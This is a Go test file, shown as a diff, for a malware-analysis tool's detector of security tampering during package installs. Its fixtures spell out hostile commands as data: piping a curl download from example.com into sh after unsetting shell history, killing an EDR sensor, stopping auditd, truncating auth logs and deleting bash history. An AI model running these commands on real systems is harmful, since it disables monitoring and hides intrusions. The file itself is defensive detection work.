@@ -0,0 +1,112 @@
+package dynamicanalysis_test
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/ossf/package-analysis/internal/dynamicanalysis"
+	"github.com/ossf/package-analysis/internal/strace"
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
+)
+
+func TestSecurityTampering(t *testing.T) {
+	script := []string{"sh", "-c", "unset HISTFILE; curl https://example.com/x | sh"}
+	pkill := []string{"/usr/bin/pkill", "-9", "falcon-sensor"}
+	systemctl := []string{"systemctl", "stop", "auditd.service"}
+	truncate := []string{"truncate", "-s", "0", "/var/log/auth.log"}
+	dpkg := []string{"dpkg", "-i", "tool.deb"}
+
+	commands := []strace.CommandInfo{
+		{Command: []string{"node", "install.js"}},
+		{Command: script},
+		{Command: pkill},
+		{Command: systemctl},
+		// not stopping the service
+		{Command: []string{"systemctl", "status", "auditd"}},
+		// not a security agent
+		{Command: []string{"pkill", "node"}},
+		{Command: []string{"sh", "-c", "history | tail"}},
+		{Command: truncate},
+	}
+	files := []strace.FileInfo{
+		{Path: "/var/log/auth.log", Write: true, Writers: []strace.CommandInfo{{Command: truncate}}},
+		{Path: "/root/.bash_history", Delete: true},
+		{Path: "/etc/audit/rules.d/audit.rules", Write: true, Writers: []strace.CommandInfo{{Command: []string{"node", "install.js"}}}},
+		// only read
+		{Path: "/var/log/syslog", Read: true},
+		// written by the tool that owns it
+		{Path: "/var/log/dpkg.log", Write: true, Writers: []strace.CommandInfo{{Command: dpkg}}},
+		// in the package
+		{Path: "/app/var/log/build.log", Write: true},
+		{Path: "/root/.bash_profile", Write: true},
+	}
+
+	want := []analysisrun.SecurityTamperingResult{
+		{Rule: "shell_history", Command: script},
+		{Rule: "security_processes", Command: pkill},
+		{Rule: "security_processes", Command: systemctl},
+		{Rule: "log_tampering", Command: truncate, Path: "/var/log/auth.log"},
+		{Rule: "shell_history", Path: "/root/.bash_history"},
+		{Rule: "audit_config", Command: []string{"node", "install.js"}, Path: "/etc/audit/rules.d/audit.rules"},
+	}
+	if got := dynamicanalysis.SecurityTampering(commands, files, dynamicanalysis.DefaultTamperingRules()); !reflect.DeepEqual(got, want) {
+		t.Errorf("SecurityTampering() =\n%+v\nwant\n%+v", got, want)
+	}
+
+	rules := []dynamicanalysis.TamperingRule{{Name: "agent", Commands: []string{"pkill", "kill"}, Targets: []string{"my-agent*"}}}
+	commands = []strace.CommandInfo{
+		{Command: pkill},
+		{Command: []string{"bash", "-c", "sudo kill $(pidof my-agentd)"}},
+		{Command: []string{"pkill", "my-agentd"}},
+	}
+	want = []analysisrun.SecurityTamperingResult{
+		{Rule: "agent", Command: []string{"bash", "-c", "sudo kill $(pidof my-agentd)"}},
+		{Rule: "agent", Command: []string{"pkill", "my-agentd"}},
+	}
+	if got := dynamicanalysis.SecurityTampering(commands, files, rules); !reflect.DeepEqual(got, want) {
+		t.Errorf("SecurityTampering() with configured rules = %+v, want %+v", got, want)
+	}
+}
+
+func TestLoadTamperingRules(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, contents string) string {
+		t.Helper()
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte(contents), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+
+	got, err := dynamicanalysis.LoadTamperingRules(write("rules.json", `[
+		{"name": "agent", "commands": ["pkill"], "targets": ["my-agent"]},
+		{"name": "agent_logs", "paths": ["/var/log/my-agent", "~/.my-agent/log"], "tools": ["my-agent"]}
+	]`))
+	if err != nil {
+		t.Fatalf("LoadTamperingRules() error = %v", err)
+	}
+	want := []dynamicanalysis.TamperingRule{
+		{Name: "agent", Commands: []string{"pkill"}, Targets: []string{"my-agent"}},
+		{Name: "agent_logs", Paths: []string{"/var/log/my-agent", "~/.my-agent/log"}, Tools: []string{"my-agent"}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("LoadTamperingRules() = %+v, want %+v", got, want)
+	}
+
+	for _, contents := range []string{
+		`[{"commands": ["pkill"]}]`,
+		`[{"name": "agent"}]`,
+		`[{"name": "agent", "targets": ["my-agent"], "paths": ["/var/log"]}]`,
+		`[{"name": "agent", "commands": ["pkill"], "targets": ["[my-agent"]}]`,
+		`[{"name": "agent", "paths": ["var/log"]}]`,
+		`[{"name": "agent", "paths": ["~/.agent/[log"]}]`,
+	} {
+		if _, err := dynamicanalysis.LoadTamperingRules(write("invalid.json", contents)); !errors.Is(err, dynamicanalysis.ErrInvalidTamperingRule) {
+			t.Errorf("LoadTamperingRules(%s) error = %v, want %v", contents, err, dynamicanalysis.ErrInvalidTamperingRule)
+		}
+	}
+}